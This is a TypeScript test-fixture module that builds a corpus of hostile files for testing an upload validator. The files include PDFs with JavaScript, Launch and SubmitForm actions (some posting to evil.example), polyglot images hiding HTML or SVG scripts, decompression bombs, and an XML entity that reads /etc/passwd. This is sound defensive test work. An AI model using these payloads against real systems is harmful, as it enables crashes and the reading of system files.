import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { chequePdf, compressedPdf } from './pdf.ts';

export interface CorpusFile {
  readonly name: string;
  readonly bytes: Buffer;
}

const SIGNATURE = Buffer.from('89504e470d0a1a0a', 'hex');
const chunk = (name: string, data: Buffer): Buffer => {
  const named = Buffer.concat([Buffer.from(name, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
};

/** A grey PNG of a claimed size; its pixels compress a thousandfold. */
function greyPng(width: number, height: number, before: readonly Buffer[] = []): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const pixels = deflateSync(Buffer.alloc(Math.min(height, 40_000) * (Math.ceil(Math.min(width, 40_000) / 8) + 1)));
  return Buffer.concat([SIGNATURE, chunk('IHDR', header), ...before, chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
}

const HTML = '<html><script>alert(1)</script></html>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
const text = (value: string): Buffer => Buffer.from(value, 'latin1');

/** Actions and attachments of a PDF, each as an entry of its catalogue. */
const ACTIVE: Readonly<Record<string, string>> = {
  OpenAction: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
  'JavaScript in names': '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>',
  'spelled otherwise': '/Open#41ction << /S /#4aavaScript /J#53 (x) >>',
  launch: '/AA << /WC << /S /Launch /F (calc.exe) >> >>',
  'a link': '/A << /S /URI /URI (https://evil.example) >>',
  'another file': '/A << /S /GoToR /F (other.pdf) >>',
  'an embedded file': '/Names << /EmbeddedFiles 9 0 R >>',
  'a form that is sent': '/A << /S /SubmitForm /F (https://evil.example) >>',
  'a form of its own kind': '/AcroForm << /XFA 7 0 R >>',
  'a film': '/A << /S /Rendition >>',
};

const HIDING: Readonly<Record<string, Parameters<typeof compressedPdf>[1]>> = {
  'another packing': { dictionary: '/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode', pack: (bytes) => bytes },
  'a packing named elsewhere': { dictionary: '/Type /ObjStm /N 1 /First 4 /Filter 7 0 R' },
  'a predictor': { dictionary: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>' },
  'no declared type': { dictionary: '/N 1 /First 4 /Filter /FlateDecode' },
  'a disguised declaration': { dictionary: '/Type /Obj#53tm /N 1 /F#69rst 4 /Filter /Flate#44ecode' },
};

const openPdf = (extra: string): Buffer => text(`%PDF-1.4\n1 0 obj << /Type /Catalog ${extra} >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF`);

const named = (files: Readonly<Record<string, Buffer>>): CorpusFile[] => Object.entries(files).map(([name, bytes]) => ({ name, bytes }));

async function hostilePdfs(): Promise<CorpusFile[]> {
  const plain = await chequePdf(['Payment 9 000,00 RUB']);
  const whole = plain.toString('latin1');
  return [
    ...Object.entries(ACTIVE).flatMap(([name, extra]) => [
      { name: `pdf with ${name}`, bytes: openPdf(extra) },
      { name: `packed pdf with ${name}`, bytes: compressedPdf(extra) },
    ]),
    ...Object.entries(HIDING).map(([name, packing]) => ({
      name: `pdf hiding by ${name}`,
      bytes: compressedPdf(ACTIVE['OpenAction'] ?? '', packing),
    })),
    ...named({
      'html named pdf': text(HTML),
      'html behind the first bytes of a pdf': text(`%PDF-1.4\n${HTML}\n%%EOF`),
      'pdf with a page behind it': Buffer.concat([plain, text(HTML)]),
      'pdf with a page before it': Buffer.concat([text(HTML), plain]),
      'pdf with a drawing inside': text(whole.replace('%%EOF', `% ${SVG}\n%%EOF`)),
      'pdf with a later revision that acts': Buffer.concat([compressedPdf(''), compressedPdf(ACTIVE['OpenAction'] ?? '')]),
      'encrypted pdf': text('%PDF-1.7\ntrailer << /Encrypt 5 0 R /Root 1 0 R >>\n%%EOF'),
      'pdf that is a bomb': compressedPdf('', { pack: () => deflateSync(Buffer.alloc(40 * 1024 * 1024, '1 0 ')) }),
      'pdf cut off': plain.subarray(0, plain.length - 200),
      'pdf behind a gif': Buffer.concat([GIF, plain]),
      'archive behind a pdf': Buffer.concat([plain, text('PK\u0003\u0004evil')]),
    }),
  ];
}

async function hostilePictures(): Promise<CorpusFile[]> {
  const noise = { type: 'gaussian', mean: 128, sigma: 60 } as const;
  const picture = sharp({ create: { width: 120, height: 120, channels: 3, background: '#000', noise } });
  const [jpeg, png, webp] = await Promise.all([
    picture.clone().jpeg().toBuffer(),
    picture.clone().png().toBuffer(),
    picture.clone().webp().toBuffer(),
  ]);
  const raw = Buffer.concat([Buffer.alloc(1_200, 0), Buffer.alloc(1_200, 200)]);
  const frames = sharp(raw, { raw: { width: 20, height: 40, channels: 3, pageHeight: 20 } });
  const jpegHead = Buffer.from([0xff, 0xd8, 0xff, 0xe0]);
  return named({
    'svg named jpg': text(SVG),
    'svg with a declaration': text(`<?xml version="1.0"?>${SVG}`),
    'svg behind the first bytes of a png': Buffer.concat([SIGNATURE, text(SVG)]),
    'page behind the first bytes of a jpeg': Buffer.concat([jpegHead, text(HTML)]),
    'script behind the first bytes of a jpeg': Buffer.concat([jpegHead, text('/*'), text('*/=1;alert(1)')]),
    'page behind the first bytes of a webp': Buffer.concat([text('RIFF\u0010\u0000\u0000\u0000WEBP'), text(HTML)]),
    'page behind the first bytes of a heic': Buffer.concat([text('\u0000\u0000\u0000\u0018ftypheic'), text(HTML)]),
    gif: GIF,
    'gif that is a script': Buffer.concat([text('GIF89a/*'), GIF.subarray(6), text('*/=1;alert(1)')]),
    bitmap: Buffer.concat([text('BM'), Buffer.alloc(60)]),
    icon: Buffer.concat([Buffer.from([0, 0, 1, 0]), Buffer.alloc(40)]),
    tiff: await picture.clone().tiff().toBuffer(),
    'jpeg cut off': jpeg.subarray(0, jpeg.length / 2),
    'png cut off': png.subarray(0, png.length / 2),
    'webp cut off': webp.subarray(0, webp.length / 2),
    'png bomb': greyPng(30_000, 30_000),
    'png that claims a planet': greyPng(2_147_483_647, 2_147_483_647),
    'tall png': greyPng(8, 30_000_000),
    'png of no size': greyPng(0, 8),
    'animated png': greyPng(8, 8, [chunk('acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]))]),
    'animated webp': await frames
      .clone()
      .webp({ loop: 0, delay: [100, 100] })
      .toBuffer(),
  });
}

/** Files of neither kind. */
const others = (): CorpusFile[] =>
  named({
    nothing: Buffer.alloc(0),
    'one byte': Buffer.from([0]),
    'NUL bytes': Buffer.alloc(4_096),
    'executable of Windows': Buffer.concat([text('MZ'), Buffer.alloc(200)]),
    'executable of Linux': Buffer.concat([text('\u007fELF'), Buffer.alloc(200)]),
    archive: Buffer.concat([text('PK\u0003\u0004'), Buffer.alloc(200)]),
    'packed stream': deflateSync(Buffer.alloc(10_000_000)),
    'shell script': text('#!/bin/sh\nid\n'),
    'xml with an entity': text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    'office document': Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
  });

/** Files that no upload may accept (quality R50). */
export const hostileFiles = async (): Promise<readonly CorpusFile[]> => [
  ...(await hostilePdfs()),
  ...(await hostilePictures()),
  ...others(),
];
